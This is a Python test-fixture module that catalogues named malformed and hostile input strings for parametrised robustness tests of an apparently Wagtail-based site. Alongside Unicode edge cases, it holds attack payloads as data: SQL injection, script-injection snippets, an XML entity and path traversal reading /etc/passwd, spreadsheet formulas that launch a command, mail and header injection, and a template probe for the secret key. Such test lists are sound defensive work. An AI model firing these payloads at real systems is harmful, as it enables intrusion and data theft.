"""Hold strings that break forms, searches, feeds and file formats, each with a name.

Use `HOSTILE_STRINGS` as parameters of a test. Each entry stands for a kind of string that broke a
site of this sort, and its comment says why. A new fault gets a new entry here, so that everything
that reads this list is tested against it.

    @pytest.mark.parametrize("text", HOSTILE_STRINGS.values(), ids=HOSTILE_STRINGS)

A lone surrogate cannot be sent as text over HTTP, only inside JSON. Take `SENDABLE_STRINGS` for
addresses and form fields. Nothing here is printed raw in this file: every odd character is written
as an escape, so that an editor or a terminal shows what is meant.
"""

from __future__ import annotations

import unicodedata

# In every string whose words should be found again, once whatever is harmful has been removed.
WORD = "safeguard"

# What XML, PostgreSQL or spreadsheets cannot hold, or what does something to a terminal.
CONTROL_CHARACTERS = {
    "nul": f"{WORD}\x00ing",  # PostgreSQL refuses it
    "nul_alone": "\x00",
    "c0_all": WORD + "".join(map(chr, range(0x01, 0x20))) + "end",
    "vertical_tab": f"First line\x0bsecond line of {WORD}",  # PowerPoint's line break
    "form_feed": f"First page\x0csecond page of {WORD}",  # PDFs put it between pages
    "escape_sequence": f"\x1b[31m{WORD}\x1b[0m",
    "backspace": f"{WORD}\x08\x08",
    "delete": f"{WORD}\x7f",
    "c1_all": WORD + "".join(map(chr, range(0x80, 0xA0))) + "end",
    "next_line": f"First line\x85second line of {WORD}",
    "line_separator": f"First line\u2028second line of {WORD}",  # ended JavaScript strings once
    "paragraph_separator": f"First\u2029second paragraph of {WORD}",
    "file_separators": f"{WORD}\x1c\x1d\x1e\x1fend",  # str.splitlines() splits at three of them
}

# Code points that no text may contain, or that are none in UTF-8.
NON_CHARACTERS = {
    "u_fffe": f"{WORD}\ufffeing",  # encodable, and not allowed in XML
    "u_ffff": f"{WORD}\uffffing",
    "u_fdd0_to_fdef": WORD + "".join(map(chr, range(0xFDD0, 0xFDF0))),
    "last_two_of_each_plane": WORD
    + "".join(chr(plane << 16 | last) for plane in range(1, 17) for last in (0xFFFE, 0xFFFF)),
    "replacement_character": f"{WORD} caf\ufffd",
    "private_use": f"{WORD} \uf0b7 item",  # the bullet of Word's Symbol font
    "byte_order_mark": f"\ufeff{WORD}",
    "byte_order_mark_inside": f"{WORD}\ufeffing",
    "object_replacement": f"{WORD}\ufffc",
    "interlinear_annotation": f"{WORD}\ufff9text\ufffareading\ufffb",
}
LONE_SURROGATES = {
    "high_surrogate": f"{WORD}\ud800ing",
    "low_surrogate": f"{WORD}\udc00ing",
    "surrogates_swapped": f"{WORD}\udc00\ud800",
    "surrogate_alone": "\ud83d",  # the first half of an emoji
    "surrogate_pair_unjoined": f"{WORD}\ud83d\ude00",  # what some programs write for one emoji
}

# Marks that change the direction of what follows, perhaps to the end of the page.
DIRECTIONS = {
    "override_unclosed": f"{WORD} \u202efdp.exe",
    "embedding_unclosed": f"{WORD} \u202btext",
    "isolate_unclosed": f"{WORD} \u2067text",
    "override_closed": f"{WORD} \u202etxet\u202c end",
    "isolate_closed": f"{WORD} \u2068\u05d0\u05d1\u2069 end",
    "pop_without_opening": f"{WORD}\u202c\u2069 end",
    "isolate_closed_by_pop": f"{WORD} \u2067\u202e text\u2069 end",  # closes both
    "directions_nested": "\u202e" * 130 + WORD,  # beyond the 125 levels of UAX 9
    "right_to_left_mark": f"{WORD}\u200f end",
    "arabic": "\u0643\u0644 \u0637\u0641\u0644 \u064a\u062d\u062a\u0627\u062c",
    "hebrew_with_latin": f"\u05db\u05dc {WORD} \u05d9\u05dc\u05d3 12",
}

# What nobody sees and every comparison does.
INVISIBLE = {
    "zero_width_space": "safe\u200bguard",
    "zero_width_only": "\u200b\u200c\u200d\u2060\ufeff",
    "word_joiner": f"{WORD}\u2060ing",
    "zero_width_joiner_in_emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467",  # must stay
    "zero_width_non_joiner_in_persian": "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "soft_hyphen": "safe\u00adguard",
    "soft_hyphen_only": "\u00ad\u00ad",
    "mongolian_vowel_separator": f"{WORD}\u180eing",
    "hangul_filler": "\u3164\u115f\u1160",  # letters without a shape
    "braille_blank": "\u2800",
    "invisible_operators": f"{WORD}\u2061\u2062\u2063\u2064",
    "tag_characters": f"{WORD}\U000e0041\U000e0042",
    "variation_selectors": f"{WORD}\ufe0e \u2764\ufe0f",
    "no_break_spaces": f"{WORD}\u00a0and\u202fagain\u2007 1",
}

# Nothing, or what looks like it.
EMPTY = {
    "empty": "",
    "space": " ",
    "spaces": "   ",
    "tab": "\t",
    "line_ends": "\n\r\n\r",
    "no_break_space_only": "\u00a0\u00a0",
    "ideographic_space_only": "\u3000",
    "every_space": "".join(chr(c) for c in range(0x3001) if unicodedata.category(chr(c)) == "Zs"),
}

# Expressions that a search understands, and unfinished ones that it fails on (SQLite's FTS5,
# PostgreSQL's tsquery, LIKE).
SEARCH_EXPRESSIONS = {
    "double_quote": '"',
    "double_quotes": '""',
    "double_quote_inside": f'{WORD}" children',
    "phrase_unfinished": f'"{WORD} children',
    "phrase_of_quotes": '"""" OR ""',
    "single_quote": "'",
    "single_quote_inside": "children's",
    "single_quotes_unfinished": f"'{WORD}",
    "asterisk": "*",
    "asterisk_after": f"{WORD}*",
    "asterisk_before": f"*{WORD}",
    "colon": ":",
    "column_filter": f"title:{WORD}",
    "column_filter_unfinished": "title:",
    "columns_in_braces": f"{{title body}}: {WORD}",
    "minus_column": f"- title : {WORD}",
    "caret": f"^{WORD}",
    "caret_alone": "^",
    "plus": "+",
    "and_alone": "AND",
    "or_alone": "OR",
    "not_alone": "NOT",
    "and_unfinished": f"{WORD} AND",
    "or_first": f"OR {WORD}",
    "near": f"NEAR({WORD} children, 5)",
    "near_unfinished": "NEAR(",
    "brackets": "()",
    "bracket_open": f"({WORD}",
    "bracket_close": f"{WORD})",
    "ampersand": "&",
    "pipe": "|",
    "exclamation": f"!{WORD}",
    "tsquery": f"{WORD} & !children | (law",
    "tsquery_followed_by": f"{WORD} <-> children",
    "backslash": "\\",
    "backslash_after": f"{WORD}\\",
    "backslashes": "\\\\\\",
    "backslash_quote": '\\"',
    "percent": "%",
    "percent_signs": "100% %s %(name)s %%",
    "underscore": "_",
    "question_mark": "?",
    "semicolon": "'; DROP TABLE wagtailcore_page; --",
    "comma": ",",
    "full_stops": "...",
    "hyphens": "--",
    "digits": "1234567890" * 4,
    "minus_one": "-1",
}

# What a spreadsheet carries out when it opens a table.
FORMULAS = {
    "hyperlink": '=HYPERLINK("https://example.org/?" & A1, "Open")',
    "command": "=cmd|' /C calc'!A0",
    "plus_formula": "+1+1",
    "minus_formula": "-2+3",
    "at_formula": "@SUM(1+1)",
    "formula_after_space": " =1+1",
    "formula_after_tab": "\t=1+1",
    "formula_after_line_end": "\r\n=1+1",
    "formula_full_width": "\uff1d1+1",
    "semicolon_formula": ";=1+1",
    "quoted_formula": '"=1+1"',
    "dynamic_data_exchange": 'DDE("cmd";"/C calc";"")',
}

# Markup, script, templates and other languages that something on the way might understand.
MARKUP = {
    "script": "<script>alert(1)</script>",
    "script_closed_inside": "</script><script>alert(1)</script>",  # inside JSON-LD
    "image_with_handler": "<img src=x onerror=alert(1)>",
    "attribute_broken": '" onmouseover="alert(1)',
    "attribute_single": "' onfocus='alert(1)' autofocus='",
    "textarea_closed": "</textarea><b>bold</b>",
    "title_closed": "</title><h1>large</h1>",
    "comment_opened": "<!-- ",
    "comment_closed": "--> ]]>",
    "cdata": "<![CDATA[ text ]]>",
    "cdata_closed": "]]> text",
    "xml_entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
    "processing_instruction": "<?xml version='1.0'?>",
    "entities": "&lt;b&gt; &amp;amp; &nbsp; &#0; &#xFFFE; &#11; &bogus;",
    "ampersand_alone": "Save & protect &",
    "less_than": "1 < 2 and 3 > 2",
    "tag_unfinished": "<a href=",
    "template_tag": "{% load static %}{{ settings.SECRET_KEY }}",
    "template_unfinished": "{{ page.title",
    "template_other": "${7*7} #{7*7} <%= 7*7 %> [[ ]]",
    "format_string": "{0.__class__} {} {missing}",
    "javascript_address": "javascript:alert(1)",
    "data_address": "data:text/html,<script>alert(1)</script>",
    "json": '{"key": ["value", null]} \\u0000 \\ud800',
    "markdown": "[link](javascript:alert(1)) **bold** `code`",
    "path": "../../../../etc/passwd",
    "path_encoded": "..%2f..%2fetc%2fpasswd%00.pdf",
    "windows_name": "CON",
}

# Line ends, where one line is expected: headers of mails and answers, CSV, iCalendar.
LINES = {
    "line_feed": f"First line\nsecond line of {WORD}",
    "carriage_return": f"First line\rsecond line of {WORD}",
    "windows_line_end": f"First line\r\nsecond line of {WORD}",
    "tab_inside": f"First\tsecond {WORD}",
    "mail_header": f"{WORD}\r\nBcc: everyone@example.org",
    "mail_body": f"{WORD}\r\n\r\nAnother text",
    "answer_header": f"{WORD}\r\nSet-Cookie: session=1",
    "calendar_property": f"{WORD}\r\nEND:VEVENT\r\nBEGIN:VEVENT",
    "calendar_separators": "One; two, three\\, four\\n five: six",
    "csv_separators": 'One, "two"; three\tfour',
    "many_lines": "\n" * 500 + WORD,
}

# Characters outside the first plane, many of them on one, and other writing.
OTHER_WRITING = {
    "emoji": "\U0001f600 \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "emoji_skin_tone": "\U0001f44d\U0001f3fd",
    "flag": "\U0001f1ec\U0001f1e7",
    "astral_letters": "\U0001d4fc\U0001d4ea\U0001d4ef\U0001d4ee",
    "astral_at_the_limit": "\U0001f600" * 255,
    "combining_flood": "e" + "\u0301" * 300,
    "zalgo": "".join(f"{letter}\u0300\u0336\u035c" for letter in WORD),
    "decomposed": "Cafe\u0301 for children",
    "combining_first": "\u0301 accent",
    "ligatures": "\ufb01nal o\ufb03ce",  # PDFs keep them
    "full_width": "\uff33\uff41\uff46\uff45",
    "turkish": "\u0130stanbul \u0131\u015f\u0131k",  # changes length when its case changes
    "sharp_s": "STRASSE stra\u00dfe",
    "look_alikes": "s\u0430feguard",  # the second letter is Cyrillic
    "chinese": "\u4fdd\u62a4\u6bcf\u4e00\u4e2a\u5b69\u5b50",
    "thai": "\u0e40\u0e14\u0e47\u0e01\u0e17\u0e38\u0e01\u0e04\u0e19",
    "mis_decoded": "ECPAT UK\u00e2\u20ac\u2122s caf\u00c3\u00a9",
}

# Beyond what anybody types.
LONG = {
    "long_word": WORD * 1_000,
    "long_sentence": f"{WORD} " * 5_000,
    "long_quotes": '"' * 2_000,
    "long_brackets": "(" * 2_000,
    "long_tags": "<b>" * 2_000,
    "one_beyond_255": "a" * 256,
    "long_address": "https://example.org/" + "a" * 5_000,
}

HOSTILE_STRINGS: dict[str, str] = {
    **CONTROL_CHARACTERS,
    **NON_CHARACTERS,
    **LONE_SURROGATES,
    **DIRECTIONS,
    **INVISIBLE,
    **EMPTY,
    **SEARCH_EXPRESSIONS,
    **FORMULAS,
    **MARKUP,
    **LINES,
    **OTHER_WRITING,
    **LONG,
}

# All that can be encoded in UTF-8.
SENDABLE_STRINGS = {
    name: text for name, text in HOSTILE_STRINGS.items() if name not in LONE_SURROGATES
}
